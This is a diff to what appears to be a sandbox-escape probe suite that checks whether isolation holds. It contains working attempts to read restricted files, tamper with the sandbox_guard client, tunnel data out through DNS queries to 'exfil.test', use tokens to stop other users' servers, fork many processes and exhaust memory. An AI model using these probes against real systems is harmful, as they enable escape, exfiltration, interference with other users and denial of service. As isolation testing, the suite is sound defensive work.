@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import ctypes
 import errno
+import importlib.util
 import json
 import os
 import resource
@@ -104,7 +105,7 @@ def http(url: str, token: str = "", method: str = "GET") -> object:
 
 @attempt("file", "mounts")
 def list_restricted(facts: Facts) -> object:
-    return os.listdir("/restricted")
+    return os.listdir(facts["restricted"])
 
 
 @attempt("file", "mounts")
@@ -113,7 +114,7 @@ def find_restricted_file(facts: Facts) -> object:
         if folder.startswith(("/proc", "/sys")):
             continue
         for name in files:
-            if name in ("data.duckdb", "manifest.json"):
+            if name == "data.duckdb":
                 return f"{folder}/{name}"
     return None
 
@@ -148,7 +149,9 @@ def plant_code(facts: Facts) -> object:
 
 @attempt("file", "writable root")
 def alter_the_client(facts: Facts) -> object:
-    with open("/opt/sandbox-guard/lib/python3.11/site-packages/sandbox_guard/__init__.py", "a") as file:
+    found = importlib.util.find_spec("sandbox_guard")
+    assert found is not None and found.origin is not None
+    with open(found.origin, "a") as file:
         return file.write("\n")
 
 
@@ -184,7 +187,7 @@ def open_the_vaults_namespaces(facts: Facts) -> object:
 
 @attempt("process", "host processes")
 def open_the_vaults_root(facts: Facts) -> object:
-    return os.listdir(f"/proc/{facts['vault_pid']}/root/restricted")
+    return os.listdir(f"/proc/{facts['vault_pid']}/root{facts['restricted']}")
 
 
 @attempt("process", "host processes")
@@ -258,7 +261,7 @@ def connect_outside(facts: Facts) -> object:
 
 @attempt("network", "outward network")
 def connect_outside_past_the_routes(facts: Facts) -> object:
-    return tcp(facts["outside"], facts["tcp"], device="eth0")
+    return tcp(facts["outside"], facts["tcp"], device=facts["device"])
 
 
 @attempt("network", "outward network")
@@ -268,7 +271,7 @@ def send_a_datagram_outside(facts: Facts) -> object:
 
 @attempt("network", "outward network")
 def send_a_datagram_past_the_routes(facts: Facts) -> object:
-    return udp(facts["outside"], facts["udp"], b"hello", device="eth0")
+    return udp(facts["outside"], facts["udp"], b"hello", device=facts["device"])
 
 
 @attempt("network", "outward network")
@@ -308,7 +311,7 @@ def connect_to_the_bridge(facts: Facts) -> object:
 
 @attempt("host services", "host on the bridge")
 def connect_to_the_bridge_past_the_routes(facts: Facts) -> object:
-    return tcp(facts["gateway"], facts["tcp"], device="eth0")
+    return tcp(facts["gateway"], facts["tcp"], device=facts["device"])
 
 
 @attempt("host services", "host on the bridge")
@@ -341,22 +344,22 @@ def connect_to_the_hosts_own_address(facts: Facts) -> object:
 
 @attempt("neighbours", "neighbour's network")
 def connect_to_the_neighbours_notebook(facts: Facts) -> object:
-    return tcp(facts["their_notebook"], 8888)
+    return tcp(*facts["their_notebook"])
 
 
 @attempt("neighbours", "neighbour's network")
 def connect_to_the_neighbours_vault(facts: Facts) -> object:
-    return tcp(facts["their_vault"], 8080)
+    return tcp(*facts["their_vault"])
 
 
 @attempt("neighbours", "neighbour's network")
 def connect_to_the_neighbours_gate(facts: Facts) -> object:
-    return tcp(facts["their_gate"], 8081)
+    return tcp(*facts["their_gate"])
 
 
 @attempt("neighbours", "neighbour's network")
 def ask_the_neighbours_vault_past_the_routes(facts: Facts) -> object:
-    return tcp(facts["their_vault"], 8080, device="eth0")
+    return tcp(*facts["their_vault"], device=facts["device"])
 
 
 @attempt("neighbours", "neighbour's network")
@@ -368,7 +371,9 @@ def find_the_neighbour_by_name(facts: Facts) -> object:
 def ping_the_neighbour(facts: Facts) -> object:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as connection:
         connection.settimeout(2)
-        connection.sendto(struct.pack("!BBHHH8s", 8, 0, 0, 0, 1, b"neighbor"), (facts["their_notebook"], 0))
+        connection.sendto(
+            struct.pack("!BBHHH8s", 8, 0, 0, 0, 1, b"neighbor"), (facts["their_notebook"][0], 0)
+        )
         return connection.recv(100)
 
 
@@ -395,17 +400,17 @@ def resolve_a_name(facts: Facts) -> object:
 
 @attempt("dns", "resolver")
 def tunnel_in_a_label(facts: Facts) -> object:
-    return answered(udp("127.0.0.11", 53, query("a" * 63 + ".exfil.test", 1)))
+    return answered(udp(facts["own_resolver"], 53, query("a" * 63 + ".exfil.test", 1)))
 
 
 @attempt("dns", "resolver")
 def tunnel_back_in_text(facts: Facts) -> object:
-    return answered(udp("127.0.0.11", 53, query("text.exfil.test", 16)))
+    return answered(udp(facts["own_resolver"], 53, query("text.exfil.test", 16)))
 
 
 @attempt("dns", "resolver")
 def tunnel_by_reverse_look_up(facts: Facts) -> object:
-    return answered(udp("127.0.0.11", 53, query("4.3.2.1.in-addr.arpa", 12)))
+    return answered(udp(facts["own_resolver"], 53, query("4.3.2.1.in-addr.arpa", 12)))
 
 
 @attempt("dns", "resolver")
@@ -415,7 +420,7 @@ def ask_the_outer_resolver(facts: Facts) -> object:
 
 @attempt("dns", "resolver")
 def ask_the_outer_resolver_past_the_routes(facts: Facts) -> object:
-    return answered(udp(facts["resolver"], 53, query("direct.exfil.test", 1), device="eth0"))
+    return answered(udp(facts["resolver"], 53, query("direct.exfil.test", 1), device=facts["device"]))
 
 
 # ----------------------------------------------------------------------------------------- tokens
@@ -423,24 +428,24 @@ def ask_the_outer_resolver_past_the_routes(facts: Facts) -> object:
 
 @attempt("tokens", "stronger token")
 def read_the_neighbour(facts: Facts) -> object:
-    return http(f"http://gate:8081/hub/api/users/{facts['neighbour']}", facts["token"])
+    return http(f"{facts['hub']}/hub/api/users/{facts['neighbour']}", facts["token"])
 
 
 @attempt("tokens", "stronger token")
 def watch_the_neighbour_start(facts: Facts) -> object:
     server = f"{facts['neighbour']}/servers/{facts['neighbours_server']}"
-    return http(f"http://gate:8081/hub/api/users/{server}/progress", facts["token"])
+    return http(f"{facts['hub']}/hub/api/users/{server}/progress", facts["token"])
 
 
 @attempt("tokens", "stronger token")
 def stop_the_neighbours_unnamed_server(facts: Facts) -> object:
-    return http(f"http://gate:8081/hub/api/users/{facts['neighbour']}/server", facts["token"], "DELETE")
+    return http(f"{facts['hub']}/hub/api/users/{facts['neighbour']}/server", facts["token"], "DELETE")
 
 
 @attempt("tokens", "stronger token")
 def start_another_server(facts: Facts) -> object:
     return http(
-        f"http://gate:8081/hub/api/users/{facts['neighbour']}/servers/{facts['neighbours_server']}",
+        f"{facts['hub']}/hub/api/users/{facts['neighbour']}/servers/{facts['neighbours_server']}",
         facts["token"],
         "POST",
     )
@@ -449,9 +454,7 @@ def start_another_server(facts: Facts) -> object:
 @attempt("tokens", "stronger token")
 def stop_the_neighbours_server(facts: Facts) -> object:
     name = facts["neighbours_server"]
-    return http(
-        f"http://gate:8081/hub/api/users/{facts['neighbour']}/servers/{name}", facts["token"], "DELETE"
-    )
+    return http(f"{facts['hub']}/hub/api/users/{facts['neighbour']}/servers/{name}", facts["token"], "DELETE")
 
 
 # ----------------------------------------------------------------------------------------- ledger
@@ -479,7 +482,7 @@ def speak_to_the_ledger(facts: Facts) -> object:
 
 @attempt("ledger", "uplink")
 def connect_to_the_ledger_past_the_routes(facts: Facts) -> object:
-    return tcp(facts["services"], facts["ledger_port"], device=facts.get("device", "eth0"))
+    return tcp(facts["services"], facts["ledger_port"], device=facts["device"])
 
 
 # ------------------------------------------------------------------------------ kernel interfaces
@@ -536,7 +539,7 @@ def fix_the_addresses(facts: Facts) -> object:
 def fork_without_end(facts: Facts) -> object:
     children = []
     try:
-        for _ in range(600):
+        for _ in range(facts["processes"]):
             child = os.fork()
             if child == 0:
                 time.sleep(20)
@@ -556,10 +559,11 @@ def take_all_memory(facts: Facts) -> object:
     if child == 0:
         with open("/proc/self/oom_score_adj", "w") as file:
             file.write("1000")
-        held = []
-        for _ in range(10):
-            held.append(b"x" * (256 * 2**20))
-        os._exit(0)
+        try:
+            held = [b"x" * (256 * 2**20) for _ in range(10)]
+        except MemoryError:
+            os._exit(1)
+        os._exit(0 if held else 1)
     return os.waitpid(child, 0)[1] == 0
 
 
